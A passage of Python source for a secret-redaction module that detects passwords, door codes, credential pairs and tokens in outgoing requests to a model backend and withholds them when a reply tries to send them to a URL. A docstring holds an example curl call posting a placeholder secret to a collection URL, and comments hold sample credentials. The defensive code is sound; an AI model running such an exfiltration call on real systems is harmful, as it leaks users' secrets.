                rf"(?i)(?:\b(?:using|use|with|enter|type)\s+[\"'“]?(?P<s>{_PASSWORD_SHAPED})[\"'”]?\s+as\s+(?:the\s+|my\s+|a\s+)?"
                rf"|(?<![\w-])[\"'“]?(?P<s1>{_PASSWORD_SHAPED})[\"'”]?\s+is\s+(?:the|my|our)\s+(?:\w+\s+)?)"
                r"(?:password|passphrase|passcode|pin|token|secret|api\s+key)\b"
            ),
            0,
        ),
        # "the back door keypad code 5829", "alarm code: 0417", "gate code is 2468"
        (
            "door-code",
            (
                r"(?i)\b(?:door|gate|alarm|keypad|garage|safe|lock|entry|entrance|building|lockbox|padlock)"
                r"(?:\s+(?:keypad|lock|entry|access))?\s+(?:code|combination|combo|pin)"
                # "the door code for the server room is 4817"
                r"(?:(?:(?<=door\scode)|(?<=gate\scode)|(?<=alarm\scode)|(?<=keypad\scode)|(?<=garage\scode))\s+(?:for|of|to|on|at)(?:\s+[\w'’-]+){1,4}?(?=\s+(?:is|=|:)\s))?"
                r"\s*(?:is\s+|[:=]\s*)?(?P<s>\d{3,8}#?)\b"
            ),
            0,
        ),
        # `auth is admin:Pepper&Salt99`, "the login is root:toor"
        (
            "auth-pair",
            # the user starts with a letter and the password is not a port or a time (`api.example.com:8443`)
            (
                r"(?i)\b(?:auth|login|creds?|credentials)\b(?:\s+[\w-]+){0,2}?(?:\s+(?:is|are)\s+|\s*[:=]\s+)[A-Za-z][^\s:/@]*:"
                r"(?P<s>(?![\d:]+(?:[\s,;]|$))[^\s,;]{4,})"
            ),
            0,
        ),
        # an ftp script's `user NAME PASSWORD` line (a here-document to ftp -n)
        ("ftp-user-line", r"(?s)\bl?ftp\b.*?\n[ \t]*user[ \t]+\S+[ \t]+(?P<s>\S+)[ \t]*(?=\n|$)", 0),
        ("cred-pair", r"(?i)\bcred(?:ential)?s?\b(?:\s+[\w-]+){0,3}?\s+(?:is|are|:)\s+\S+\s*/\s*(?P<s>[^\s,;]+)", 0),
        (
            "prose-with-secret",
            r"(?i)\b(?:with|using|use)\s+(?:the\s+)?(?:password|passphrase|token|secret|api[ _-]?key)\s+(?P<s>[^\s,;]+)",
            0,
        ),
    ]
]

_WORDISH = re.compile(r"[A-Za-z0-9+/=_-]{24,}")
# a word nobody writes but as a password (`Zx!9qWe#Rt55`): upper and lower case, a digit and a
# symbol, 8 characters or more, wherever it stands and whatever names it
_TOKEN = re.compile(r"(?<![^\s'\"=:(\[{<>,])[A-Za-z0-9!#%&*?@^+~._-]{8,64}(?![^\s'\"),;\]}<>，。、；：！？])")
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
# a file name (`Report#2024Q1.pdf`), user@host (`alice@Server2`), a version (`V1.2.3+build5`)
# a format (`Account%10`)
_NOT_A_PASSWORD = re.compile(r"\.[A-Za-z][A-Za-z0-9]{0,4}$|^[\w.+-]+@[\w.-]+$|\d\.\d|%-?\d")
# code around it: a regex (`^(?=.*[A-Z])(?=.*\d).{8,}$`), a <placeholder>, a function call
_CODE_WORD = re.compile(r"[()\[\]{}<>\\]")
# a value that only says where the secret is kept: a variable, a command's output
_REFERENCE = re.compile(r"\$(?:\w+|\{[^}]*\}|\([^)]*\))")
# ids that look random but are public: UUIDs (`UUID=3f1c…` for a disk), and what its label calls
# public or an id: a key fingerprint (`SHA256:…`), `ssh-ed25519 AAAA…` (a public key), `request id req_7Hx…`
_SRI = re.compile(r"sha(?:1|256|384|512)-")  # a subresource-integrity digest (package-lock.json)
_UUID = re.compile(r"(?:\w+=)?[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}")
_PUBLIC_BEFORE = re.compile(
    r"(?:(?-i:SHA256|SHA1|MD5):"
    r"|(?:ssh-(?:ed25519|rsa|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com)\s+"
    r"|\b(?:request|trace|correlation|job|run|build|event|message|order|commit|container|image|task)[ _-]?id\s*[:=#]?\s*"
    # what a key's label or its program calls public (minisign's -P is the signer's public key)
    r"|\b(?:public[ _-]?key|pubkey)\W{0,3}(?:is\s+)?|\bminisign\b[^\n|;&]*\s-P\s+)$",
    re.IGNORECASE,
)
# a PIN typed as digits on the line that says it is one (`adb shell input text 582913 … my PIN`), not
# a number a word names as something else (a pid, a port, a line)
_PIN_WORD = re.compile(r"\bPIN\b|\bPUK\b|(?i:\bpin\s+code|\bpasscode|\bunlock\s+code)")
_PIN_DIGITS = re.compile(r"(?<![\w.:/-])(?<!pid )(?<!port )(?<!line )(?<!kill )(?P<s>\d{4,8})(?![\w.:/-])")
# `user:password` lines fed to chpasswd (a here-document, a pipe), which reads exactly that
_CHPASSWD = re.compile(r"\bchpasswd\b")
_USER_PASS_LINE = re.compile(r"(?m)^[a-z_][\w.-]*:(?P<s>[^\s:]+)$")


def _entropy(word: str) -> float:
    n = len(word)
    return -sum(c / n * math.log2(c / n) for c in Counter(word).values())


def _high_entropy(word: str) -> bool:
    """A long random-looking token (base64, generated keys): three character classes, ≥ 4 bits a char.
    Hex digests (two classes) and long words in camel case (low entropy) stay."""
    if "REDACTED_" in word or any(re.fullmatch(r"[a-z]{3,}", part) for part in word.split("/")):
        return False  # holds a placeholder already, or is a path of plain words
    classes = sum(bool(re.search(rx, word)) for rx in ("[a-z]", "[A-Z]", "[0-9]"))
    return classes == 3 and _entropy(word) >= 4.0


def _public(m: re.Match) -> bool:
    """A random-looking word that is an id, a digest or a public key by its shape or its label."""
    word = m.group()
    before = m.string[max(0, m.start() - 80) : m.start()]
    return bool(
        _UUID.fullmatch(word)
        or _SRI.match(word)
        or _PUBLIC_BEFORE.search(before)
        or _encoded_prose(word)
        or _in_public_block(m)
    )


def _random_secret(m: re.Match) -> bool:
    return _high_entropy(m.group()) and not _public(m)


def _strong_password(m: re.Match) -> bool:
    word = m.group()
    return (
        all(re.search(rx, word) for rx in ("[A-Z]", "[a-z]", r"\d", "[!#%&*?@^+~]"))
        and word[0] not in "-."
        and "REDACTED_" not in word
        and not _EMAIL.fullmatch(word)
        and not _NOT_A_PASSWORD.search(word)
        and not _CODE_WORD.search(_whole_word(m))
        and not _public(m)
    )


def _whole_word(m: re.Match) -> str:
    """The whitespace-delimited word a match lies in."""
    text = m.string
    start = max(text.rfind(" ", 0, m.start()), text.rfind("\n", 0, m.start())) + 1
    ends = [i for i in (text.find(" ", m.end()), text.find("\n", m.end())) if i >= 0]
    return text[start : min(ends) if ends else len(text)]


def _in_public_block(m: re.Match) -> bool:
    """Inside a PEM block that is public by its label (a public key, a certificate)."""
    begin = m.string.rfind("-----BEGIN ", 0, m.start())
    return (
        begin >= 0
        and "-----END" not in m.string[begin : m.start()]
        and bool(
            re.match(
                r"-----BEGIN (?:[A-Z0-9 ]* )?(?:PUBLIC KEY|CERTIFICATE|PGP PUBLIC KEY BLOCK)-----", m.string[begin:]
            )
        )
    )


def _encoded_prose(word: str) -> bool:
    """base64 of a sentence (`echo 'SGVsbG8sIHdvcmxkIQ==' | base64 -d`) is data, not a key: it decodes to
    printable text with spaces between words. A key or an encoded `user:password` has no spaces."""
    try:
        text = base64.b64decode(word + "=" * (-len(word) % 4), validate=True).decode("ascii")
    except (binascii.Error, ValueError):
        return False
    return text.isprintable() and len(re.findall(r"[A-Za-z]{2,} ", text)) >= 2


# where a placeholder sent back would carry the secret off the machine: inside a URL, as a DNS
# label, or as the data or a header of a request
_NETWORK_WORD = re.compile(r"://|^[\w.-]*REDACTED_\d+\.[A-Za-z]|[?&][\w.-]+=[^\s&]*REDACTED_")
_DATA_OPTION = re.compile(r"^(?:-d|--data[\w-]*|-F|--form[\w-]*|-H|--header|--post-data|--body-data|--url)$")
_WORDS = re.compile(r"""(?:[^\s'"]+|'[^']*'|"[^"]*")+""")


class Redaction:
    """One request's secrets: replaced on the way out, restored in what comes back.

    A placeholder the server puts somewhere a request would carry it (a URL, a DNS name, the data
    of a curl call) is restored only into the same slot it was taken from (the 4 characters
    before it match): `https://bob:REDACTED_1@host` comes back as typed, but a server answering
    `curl "https://x/collect?d=REDACTED_1"` gets the placeholder, not the password, and the
    user is told (`withheld`)."""

    def __init__(self):
        self.secrets: list[str] = []
        self.before: dict[str, str] = {}  # placeholder -> the 4 characters the secret followed
        self.withheld: list[str] = []

    def _placeholder(self, secret: str, before: str = "") -> str:
        if secret not in self.secrets:
            self.secrets.append(secret)
        ph = PLACEHOLDER.format(self.secrets.index(secret) + 1)
        self.before.setdefault(ph, before[-4:])
        return ph

    def text(self, text: str) -> str:
        if _CHPASSWD.search(text):
            text = _USER_PASS_LINE.sub(self._swap, text)
        if _PIN_WORD.search(text):  # a search per line only when some line names a PIN
            text = "\n".join(
                _PIN_DIGITS.sub(self._swap, line) if _PIN_WORD.search(line) else line for line in text.split("\n")
            )
        for _, rx in FORMS:
            text = rx.sub(lambda m: self._swap(m), text)
        text = _WORDISH.sub(
            lambda m: self._placeholder(m.group(), m.string[: m.start()]) if _random_secret(m) else m.group(), text
        )
        return _TOKEN.sub(
            lambda m: self._placeholder(m.group(), m.string[: m.start()]) if _strong_password(m) else m.group(),
            text,
        )

    def _swap(self, m: re.Match) -> str:
        # the secret is group "s"; a form with several quotings names them s1, s2 … (one matches)
        group = next((g for g in m.re.groupindex if g[0] == "s" and m.group(g) is not None), "s")
        secret = m.group(group)
        if not secret or "REDACTED_" in secret:  # already holds a placeholder: one secret, one number
            return m.group()
        if _REFERENCE.fullmatch(secret.strip("'\"")):  # `Bearer $GITHUB_TOKEN` names where it is kept
            return m.group()
        start, end = m.span(group)
        whole = m.group()
        return whole[: start - m.start()] + self._placeholder(secret, m.string[:start]) + whole[end - m.start() :]

    def _bound_out(self, text: str, at: int) -> bool:
        """Is the placeholder at `at` in a place a network request would carry it?"""
        words = list(_WORDS.finditer(text))
        for i, w in enumerate(words):
            if w.start() <= at < w.end():
                prev = words[i - 1].group() if i else ""
                return bool(_NETWORK_WORD.search(w.group()) or _DATA_OPTION.match(prev))
        return False

    def restore(self, text: str) -> str:
        # highest number first, so REDACTED_1 does not eat the front of REDACTED_12
        for i in range(len(self.secrets), 0, -1):
            ph = PLACEHOLDER.format(i)
            out, pos = [], 0
            for m in re.finditer(re.escape(ph) + r"(?!\d)", text):
                slot = text[max(0, m.start() - 4) : m.start()]
                if self._bound_out(text, m.start()) and slot != self.before.get(ph):
                    self.withheld.append(ph)
                    continue  # left as the placeholder
                out.append(text[pos : m.start()] + self.secrets[i - 1])
                pos = m.end()
            text = "".join(out) + text[pos:]
        return text


def redact(text: str) -> str:
    """The text with every secret form replaced (for messages and logs; nothing to restore)."""
    return Redaction().text(text)


def mask_url(url: str) -> str:
    """A URL fit to print: the password in user:password@ replaced by ***."""
    return re.sub(r"(?i)(\b[a-z][a-z0-9+.-]*://[^\s/:@]*:)[^\s@/]+@", r"\1***@", url)


@functools.lru_cache(maxsize=32)
def _loopback_host(host: str) -> bool:
    """Whether every address `host` stands for is this machine. By address, never by spelling
    (`127.llm.test` is a name like any other); a name that does not resolve counts as remote."""
    import ipaddress
    import socket

    try:
        ip = ipaddress.ip_address(host.strip("[]"))
        return ip.is_loopback or ip.is_unspecified
    except ValueError:
        pass
    try:
        infos = socket.getaddrinfo(host, None)
    except (OSError, UnicodeError):
        return False
    addrs = {str(i[4][0]).split("%")[0] for i in infos}
    return bool(addrs) and all(ipaddress.ip_address(a).is_loopback for a in addrs)


def is_remote(url: str) -> bool:
    host = urlparse(url).hostname or ""
    return bool(host) and not _loopback_host(host)


def remote_notice(backend) -> str | None:
    """Once per host (remembered in CARO_HOME): the sentence telling the user requests go there."""
    url = getattr(backend, "url", "") or ""
    if not url or not is_remote(url):
        return None
    host = urlparse(url).hostname or ""
    mark = paths.home() / "acknowledged-hosts"
    try:
        seen = set(mark.read_text().split()) if mark.exists() else set()
    except OSError:
        seen = set()
    if host in seen:
        return None
    try:
        mark.parent.mkdir(parents=True, exist_ok=True)
        with open(os.open(mark, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600), "a") as f:
            f.write(host + "\n")
    except OSError:
        pass
    return (
        f"requests go to {host} (not this machine); secrets in them are replaced before they leave. "
        "This notice is shown once"
    )
